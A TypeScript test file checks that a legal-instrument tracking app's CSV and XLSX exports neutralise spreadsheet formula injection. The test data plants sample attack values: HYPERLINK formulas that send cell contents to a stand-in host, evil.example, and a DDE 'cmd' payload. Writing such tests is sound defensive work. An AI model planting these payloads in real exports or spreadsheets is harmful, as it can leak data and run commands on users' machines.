import { execFile } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../src/db/client.ts';
import { SHIPPED_DATA_DIR, seedDatabase } from '../src/db/seed.ts';
import { parseCsvRows } from '../src/lib/csv.ts';
import { databaseDir, loadConfig } from '../src/server/config.ts';
import { createOrganization, createUser, sessionHeaders } from './helpers/accounts.ts';
import { createTestApp } from './helpers/app.ts';
import { TEST_CLOCK, TEST_DB_KIND, createPostgresDatabase } from './helpers/db.ts';
import { REPO_ROOT } from './helpers/fixtures.ts';

/**
 * Every CSV the product writes, filled with titles and names that a spreadsheet would run as formulas
 * (typed by users, or in reference data): no cell may start with a formula character, and each planted
 * value must come out neutralised (so the test cannot pass on exports that left the value out).
 */

const FORMULA_START = /^[=+\-@\t\r]/;
/** A figure written as a number (a negative balance) is not a formula. */
const runsAsFormula = (cell: string) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
const COUNTRY = '=HYPERLINK("http://evil.example/?x="&A1,"Niger")';
const INSTRUMENT = '-Financing Convention 1999';
const TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0";
const PARTNER = '+Partner Institute';
const PROJECT = '-Project one';
const DONOR = '=1+1 Donor';
const TEXT = '@import of funds for a terrorist group is punished.';

const cellsOf = (csv: string) => parseCsvRows(csv).flatMap((row) => row.cells);

function expectNeutralised(csv: string, planted: string[]) {
  const cells = cellsOf(csv);
  expect(cells.length).toBeGreaterThan(1);
  expect(cells.filter(runsAsFormula)).toEqual([]);
  for (const value of planted)
    expect(
      cells.filter((cell) => cell.startsWith(`'${value}`)),
      value,
    ).not.toEqual([]);
}

const csvField = (value: string) => `"${value.replace(/"/g, '""')}"`;

/** A copy of the shipped reference data with Niger's English name and a short instrument name that read as formulas. */
function referenceDataWithFormulas(): string {
  const dir = mkdtempSync(join(tmpdir(), 'lexpact-formula-data-'));
  cpSync(SHIPPED_DATA_DIR, dir, { recursive: true });
  const rewrite = (file: string, from: string, to: string) => {
    const text = readFileSync(join(dir, file), 'utf8');
    if (!text.includes(from)) throw new Error(`${file} no longer holds ${from}`);
    writeFileSync(join(dir, file), text.replace(from, to));
  };
  rewrite(
    'participants.csv',
    '\nNER,NER,NE,562,un_member_state,002,202,011,Niger,',
    `\nNER,NER,NE,562,un_member_state,002,202,011,${csvField(COUNTRY)},`,
  );
  rewrite('instrument-titles.csv', '\nicsft-1999,en,,Financing Convention 1999,', `\nicsft-1999,en,,${INSTRUMENT},`);
  return dir;
}

describe('CSV exports neutralise cells that would run as formulas', () => {
  let context: Awaited<ReturnType<typeof createTestApp>>;
  let dataDir: string;
  let filesDir: string;
  let officer: Record<string, string>;

  const get = async (url: string, headers: Record<string, string> = officer) => {
    const response = await context.app.inject({ method: 'GET', url: `/api/v1${url}`, headers });
    expect(response.statusCode, response.body).toBe(200);
    return response;
  };
  const post = async (url: string, payload: object) => {
    const response = await context.app.inject({ method: 'POST', url: `/api/v1${url}`, headers: officer, payload });
    expect(response.statusCode, response.body).toBe(201);
    return response.json() as { id: string };
  };

  beforeAll(async () => {
    dataDir = referenceDataWithFormulas();
    filesDir = mkdtempSync(join(tmpdir(), 'lexpact-formula-files-'));
    context = await createTestApp({ dataDir, library: { filesDir } });
    const db = context.database.db;
    const organisation = await createOrganization(db, ORGANISATION, 'un');
    officer = await sessionHeaders(
      db,
      TEST_CLOCK,
      await createUser(db, {
        email: 'officer@example.org',
        role: 'programme_officer',
        organizationId: organisation.id,
      }),
      true,
    );
    const admin = await sessionHeaders(
      db,
      TEST_CLOCK,
      await createUser(db, { email: 'admin@example.org', role: 'administrator' }),
      true,
    );

    const form = new FormData();
    form.append(
      'metadata',
      JSON.stringify({
        kind: 'legislation',
        titles: { en: TITLE },
        country: 'NER',
        adoptedDate: '2008-06-01',
        visibility: 'public',
      }),
    );
    form.append('language', 'en');
    form.append('file', new Blob([`${TEXT}\n\nArticle 2. The Central Authority cooperates.`]), 'law.txt');
    const body = new Response(form);
    const document = await context.app.inject({
      method: 'POST',
      url: '/api/v1/library/documents',
      headers: { ...admin, 'content-type': body.headers.get('content-type')! },
      payload: Buffer.from(await body.arrayBuffer()),
    });
    expect(document.statusCode, document.body).toBe(201);

    await post('/programme/activities', {
      title: TITLE,
      type: 'national_workshop',
      status: 'delivered',
      startDate: '2013-03-10',
      endDate: '2013-03-12',
      venueCity: 'Niamey',
      venueCountry: 'NER',
      countries: ['NER'],
      organizationId: organisation.id,
      partners: [PARTNER],
      themes: ['financing_of_terrorism'],
      participants: { total: 30, women: 10, men: 18, professions: {} },
    });

    const donor = await post('/programme/donors', { kind: 'organization', name: DONOR });
    const project = await post('/programme/projects', {
      code: '-P1',
      title: PROJECT,
      scope: 'global',
      startDate: '2013-01-01',
      organizationId: organisation.id,
      budgetAmount: 1000,
      budgetCurrency: 'USD',
    });
    await post('/programme/transactions', {
      type: 'incoming_funds',
      donorId: donor.id,
      projectId: project.id,
      earmarking: 'project',
      date: '2013-02-01',
      amount: 1000,
      currency: 'USD',
    });
    await post('/programme/transactions', {
      type: 'expenditure',
      projectId: project.id,
      date: '2013-03-01',
      amount: 1500,
      currency: 'USD',
    });
  });
  afterAll(async () => {
    await context?.close();
    for (const dir of [dataDir, filesDir]) if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('the library search, downloaded without signing in', async () => {
    const csv = (await get('/library/search?format=csv', {})).body;
    expectNeutralised(csv, [TITLE, COUNTRY, TEXT]);
  });

  it('the activities, the indicators and the cohort', async () => {
    expectNeutralised((await get('/programme/activities?format=csv')).body, [TITLE, ORGANISATION, PARTNER]);
    expect(
      cellsOf((await get('/programme/indicators?from=2013-01-01&to=2013-12-31&format=csv')).body).filter(runsAsFormula),
    ).toEqual([]);
    expectNeutralised(
      (await get('/programme/indicators/cohort?from=2013-01-01&to=2013-12-31&asOf=2014-06-30&format=csv')).body,
      [COUNTRY],
    );
  });

  it('the funding tables, where a negative balance stays a number', async () => {
    const projects = (await get('/programme/funding/projects?format=csv')).body;
    expectNeutralised(projects, [PROJECT, '-P1']);
    const [header, row] = parseCsvRows(projects).map((r) => r.cells);
    expect(row![header!.indexOf('balance_usd')]).toBe('-500');
    expectNeutralised((await get('/programme/funding/donors?format=csv')).body, [DONOR]);
  });

  it('the parties to an instrument, the comparison of two dates and the status matrix', async () => {
    expectNeutralised((await get('/instruments/icsft-1999/parties?asOf=2014-06-30&format=csv', {})).body, [COUNTRY]);
    expectNeutralised((await get('/status/compare?from=2000-01-01&to=2014-06-30&format=csv', {})).body, [INSTRUMENT]);
    expectNeutralised((await get('/status/matrix?asOf=2014-06-30&format=csv', {})).body, [COUNTRY]);
  });

  it('the monthly matrix workbook keeps a title starting with = as text, not a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await get('/programme/matrix?start=2013-03&months=1&format=xlsx')).rawPayload as unknown as ArrayBuffer,
    );
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
    const planted = cells.filter((cell) => String(cell.value).startsWith(TITLE));
    expect(planted).toHaveLength(1);
    expect(planted[0]!.type).toBe(ExcelJS.ValueType.String);
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
  });

  describe('the lexpact command', { timeout: 180_000 }, () => {
    let env: NodeJS.ProcessEnv;
    let cliDataDir: string;
    let dropDatabase = async () => {};

    const lexpact = (...args: string[]) =>
      new Promise<string>((resolve, reject) => {
        execFile(
          process.execPath,
          [join(REPO_ROOT, 'bin', 'lexpact.js'), ...args],
          { cwd: REPO_ROOT, env, maxBuffer: 64 * 1024 * 1024 },
          (error, stdout, stderr) => {
            if (error) reject(new Error(`lexpact ${args.join(' ')} failed: ${stderr}`));
            else resolve(stdout);
          },
        );
      });

    beforeAll(async () => {
      cliDataDir = mkdtempSync(join(tmpdir(), 'lexpact-formula-cli-'));
      env = {
        ...process.env,
        LEXPACT_DATA_DIR: cliDataDir,
        LEXPACT_SEED: 'auto',
        LEXPACT_LOG_LEVEL: 'silent',
        TZ: 'UTC',
      };
      delete env.LEXPACT_DATABASE_URL;
      if (TEST_DB_KIND === 'postgres') {
        const database = await createPostgresDatabase();
        env.LEXPACT_DATABASE_URL = database.url;
        dropDatabase = database.drop;
      }
      // Seeded here from the changed reference data; the command then finds a seeded database and keeps it.
      const config = loadConfig(env);
      const database = await openDatabase({ databaseUrl: config.databaseUrl, dataDir: databaseDir(config) });
      try {
        await database.migrate();
        await seedDatabase({ db: database.db, dataDir, clock: TEST_CLOCK });
      } finally {
        await database.close();
      }
    });
    afterAll(async () => {
      await dropDatabase();
      if (cliDataDir) rmSync(cliDataDir, { recursive: true, force: true });
    });

    it('`parties`, `compare` and `matrix` with --format csv', async () => {
      expectNeutralised(await lexpact('parties', 'icsft-1999', '--as-of', '2014-06-30', '--format', 'csv'), [COUNTRY]);
      expectNeutralised(await lexpact('compare', '--from', '2000-01-01', '--to', '2014-06-30', '--format', 'csv'), [
        INSTRUMENT,
      ]);
      expectNeutralised(await lexpact('matrix', '--as-of', '2014-06-30', '--format', 'csv'), [COUNTRY]);
    });
  });
});
